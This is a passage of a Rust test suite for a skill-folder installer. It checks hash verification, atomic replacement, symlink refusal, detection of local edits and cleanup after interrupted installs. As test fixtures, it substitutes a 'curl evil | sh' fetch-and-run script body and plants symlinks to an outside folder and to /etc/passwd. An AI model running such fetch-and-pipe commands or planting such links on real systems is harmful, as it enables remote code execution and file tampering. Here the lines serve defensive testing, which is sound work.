    }

    #[test]
    fn a_content_that_is_not_the_verified_one_stops_the_write_midway_and_leaves_the_old_install_whole() {
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path().join("skills");
        let files = three();
        // New install: the third file (by path) is wrong; two were written first.
        let mut fetched = Vec::new();
        let err = write_folder(&folder, "x", &version(&files), &[], |f: &InstalledFile| {
            fetched.push(f.path.clone());
            let bytes = files.iter().find(|(g, _)| g.path == f.path).unwrap().1.clone();
            Ok::<_, DiskError>(if f.path == "scripts/run.sh" { b"#!/bin/sh\ncurl evil | sh\n".to_vec() } else { bytes })
        })
        .unwrap_err();
        assert!(matches!(&err, DiskError::HashMismatch { path, .. } if path == "scripts/run.sh"), "{err}");
        assert_eq!(fetched, ["SKILL.md", "references/a.md", "scripts/run.sh"], "it failed midway");
        assert_eq!(tree(&folder), Vec::<String>::new(), "nothing: no folder, no temporary folder");

        // Update: the old install stays whole, byte for byte.
        write(&folder, &files, &[]).unwrap();
        let before = tree(&folder);
        let v2 = vec![file("SKILL.md", b"v2", false), file("scripts/run.sh", b"v2 run", true)];
        let ours = version(&files).into_iter().map(|f| f.path).collect::<Vec<_>>();
        let err = write_folder(&folder, "x", &version(&v2), &ours, |f: &InstalledFile| {
            if f.path == "scripts/run.sh" {
                return Err(DiskError::BadPath("a store that fails".into()));
            }
            Ok(b"v2".to_vec())
        })
        .unwrap_err();
        assert!(matches!(err, DiskError::BadPath(_)));
        assert_eq!(tree(&folder), before);
        assert_eq!(inspect(&folder.join("x"), &version(&files)).unwrap().local, Local::Clean);
    }

    #[cfg(unix)]
    #[test]
    fn planted_links_are_refused_and_nothing_is_written_through_them() {
        use std::os::unix::fs::symlink;
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path().join("skills");
        let outside = tmp.path().join("outside");
        fs::create_dir_all(&folder).unwrap();
        fs::create_dir_all(&outside).unwrap();
        let files = three();
        // The skill folder is a link.
        symlink(&outside, folder.join("x")).unwrap();
        assert!(matches!(write(&folder, &files, &[]), Err(DiskError::Symlink(_))));
        fs::remove_file(folder.join("x")).unwrap();
        // A folder on the way to a file is a link.
        fs::create_dir(folder.join("x")).unwrap();
        symlink(&outside, folder.join("x/scripts")).unwrap();
        let err = write(&folder, &files, &[]).unwrap_err();
        assert!(matches!(&err, DiskError::Symlink(p) if p.ends_with("x/scripts")), "{err}");
        // Even where the replaced install wrote: a link is never written through.
        let ours = vec!["scripts/run.sh".to_owned()];
        assert!(matches!(write(&folder, &files, &ours), Err(DiskError::Symlink(_))));
        fs::remove_file(folder.join("x/scripts")).unwrap();
        // The file's own path is a link.
        symlink(outside.join("victim"), folder.join("x/SKILL.md")).unwrap();
        assert!(matches!(write(&folder, &files, &[]), Err(DiskError::Symlink(_))));
        assert_eq!(tree(&outside), Vec::<String>::new(), "nothing landed outside");
        assert_eq!(tree(&folder), ["x/", "x/SKILL.md"], "and nothing was written, no temporary folder");
        // A file where the folder should be.
        fs::write(folder.join("y"), b"mine").unwrap();
        let err = write_folder(&folder, "y", &version(&files), &[], |_| Ok::<_, DiskError>(Vec::new())).unwrap_err();
        assert!(matches!(err, DiskError::NotAFile(_)));
        assert_eq!(fs::read(folder.join("y")).unwrap(), b"mine");
        // The inspection says tampered, naming the link.
        let seen = inspect(&folder.join("x"), &version(&files)).unwrap();
        assert_eq!(seen.local, Local::Tampered);
        assert!(matches!(seen.tampered_error(), Some(DiskError::Symlink(_))));
    }

    #[cfg(unix)]
    #[test]
    fn the_inspection_lists_edited_removed_and_added_entries_without_following_links() {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path();
        let files = three();
        write(folder, &files, &[]).unwrap();
        let dir = folder.join("x");
        fs::write(dir.join("scripts/run.sh"), b"#!/bin/sh\necho mine\n").unwrap();
        fs::remove_file(dir.join("references/a.md")).unwrap();
        fs::write(dir.join("notes.txt"), b"mine").unwrap();
        fs::create_dir_all(dir.join("node_modules/deep")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", dir.join("references/link")).unwrap();
        let seen = inspect(&dir, &version(&files)).unwrap();
        assert_eq!(seen.local, Local::Edited);
        let got: Vec<_> = seen.changes.iter().map(|c| (c.path.as_str(), c.change, c.kind)).collect();
        assert_eq!(
            got,
            [
                ("node_modules", Change::Added, Some("folder")),
                ("notes.txt", Change::Added, Some("file")),
                ("references/a.md", Change::Removed, None),
                ("references/link", Change::Added, Some("link")),
                ("scripts/run.sh", Change::Edited, None),
            ]
        );
        assert!(seen.has_edits());
        // The execute bit alone is an edit.
        let tmp2 = tempfile::tempdir().unwrap();
        write(tmp2.path(), &files, &[]).unwrap();
        let run = tmp2.path().join("x/scripts/run.sh");
        fs::set_permissions(&run, fs::Permissions::from_mode(0o644)).unwrap();
        let seen = inspect(&tmp2.path().join("x"), &version(&files)).unwrap();
        assert_eq!(seen.changes, [FileChange { path: "scripts/run.sh".into(), change: Change::Edited, kind: None }]);
        // Everything of ours gone: missing.
        for f in ["SKILL.md", "scripts/run.sh", "references/a.md"] {
            let _ = fs::remove_file(tmp2.path().join("x").join(f));
        }
        assert_eq!(inspect(&tmp2.path().join("x"), &version(&files)).unwrap().local, Local::Missing);
        assert_eq!(inspect(&tmp2.path().join("nothing"), &version(&files)).unwrap().local, Local::Missing);
    }

    #[test]
    fn a_swap_keeps_the_users_entries_and_drops_what_the_old_version_had() {
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path();
        let v1 = three();
        write(folder, &v1, &[]).unwrap();
        let dir = folder.join("x");
        fs::write(dir.join("notes.txt"), b"mine").unwrap();
        fs::write(dir.join("references/mine.md"), b"mine too").unwrap();
        fs::create_dir_all(dir.join("data/sub")).unwrap();
        fs::write(dir.join("data/sub/f"), b"deep").unwrap();
        let v2 = vec![file("SKILL.md", b"v2", false), file("scripts/run.sh", b"v2 run", true)];
        let ours: Vec<String> = version(&v1).into_iter().map(|f| f.path).collect();
        let w = write(folder, &v2, &ours).unwrap();
        assert!(!w.created);
        assert_eq!(w.kept, ["data", "notes.txt", "references/mine.md"]);
        assert_eq!(
            tree(folder),
            [
                "x/",
                "x/SKILL.md",
                "x/data/",
                "x/data/sub/",
                "x/data/sub/f",
                "x/notes.txt",
                "x/references/",
                "x/references/mine.md",
                "x/scripts/",
                "x/scripts/run.sh"
            ],
            "references/a.md (the old version's) is gone, the user's entries stay, no temporary or old folder"
        );
        assert_eq!(fs::read(dir.join("scripts/run.sh")).unwrap(), b"v2 run");
    }

    #[test]
    fn leftovers_of_a_killed_install_are_cleaned_or_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path();
        // A pid above any Linux pid_max: never a running process.
        let dead = 4_294_967u32;
        let stale = folder.join(format!("{TMP_PREFIX}{dead}-3"));
        fs::create_dir_all(stale.join("scripts")).unwrap();
        fs::write(stale.join("scripts/run.sh"), RUN).unwrap();
        let mine = folder.join(format!("{TMP_PREFIX}{}-99", std::process::id()));
        fs::create_dir(&mine).unwrap();
        // Killed between the two renames: the old install is put back.
        let aside = folder.join(format!("{OLD_PREFIX}{dead}-4-x"));
        fs::create_dir(&aside).unwrap();
        fs::write(aside.join("SKILL.md"), MD).unwrap();
        // Killed after the swap: the user's entry moves across, the rest goes.
        let swapped = folder.join(format!("{OLD_PREFIX}{dead}-5-y"));
        fs::create_dir_all(&swapped).unwrap();
        fs::write(swapped.join("SKILL.md"), b"old").unwrap();
        fs::write(swapped.join("notes.txt"), b"mine").unwrap();
        fs::create_dir(folder.join("y")).unwrap();
        fs::write(folder.join("y/SKILL.md"), b"new").unwrap();
        // Not ours to touch: a bad name, a link.
        fs::create_dir(folder.join(format!("{OLD_PREFIX}{dead}-6-..x"))).unwrap();
        let done = clean_leftovers(folder, |n| if n == "y" { vec!["SKILL.md".into()] } else { Vec::new() });
        assert_eq!(done.len(), 3, "{done:?}");
        let mut left = tree(folder);
        left.retain(|p| !p.contains(".skills-guide-old-4294967-6-..x"));
        assert_eq!(
            left,
            [
                format!("{TMP_PREFIX}{}-99/", std::process::id()),
                "x/".into(),
                "x/SKILL.md".into(),
                "y/".into(),
                "y/SKILL.md".into(),
                "y/notes.txt".into()
            ]
        );
        assert_eq!(fs::read(folder.join("y/SKILL.md")).unwrap(), b"new");
    }

    #[test]
    fn removing_takes_only_the_files_it_wrote_and_the_folders_then_empty() {
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path();
        let files = three();
        write(folder, &files, &[]).unwrap();
        let dir = folder.join("x");
        fs::write(dir.join("scripts/mine.sh"), b"the user's").unwrap();
        let r = remove_files(&dir, &version(&files)).unwrap();
        assert!(r.file_removed && !r.folder_removed);
        assert_eq!(r.removed, ["SKILL.md", "references/a.md", "scripts/run.sh"]);
        assert_eq!(r.left, vec![dir.join("scripts/mine.sh")]);
        assert_eq!(tree(folder), ["x/", "x/scripts/", "x/scripts/mine.sh"]);
        // Alone in its folder, an install goes with its folders.
        write_folder(folder, "w", &version(&files), &[], |f: &InstalledFile| {
            Ok::<_, DiskError>(files.iter().find(|(g, _)| g.path == f.path).unwrap().1.clone())
        })
        .unwrap();
        let r = remove_files(&folder.join("w"), &version(&files)).unwrap();
        assert!(r.folder_removed && r.left.is_empty());
        assert!(!folder.join("w").exists());
    }
}
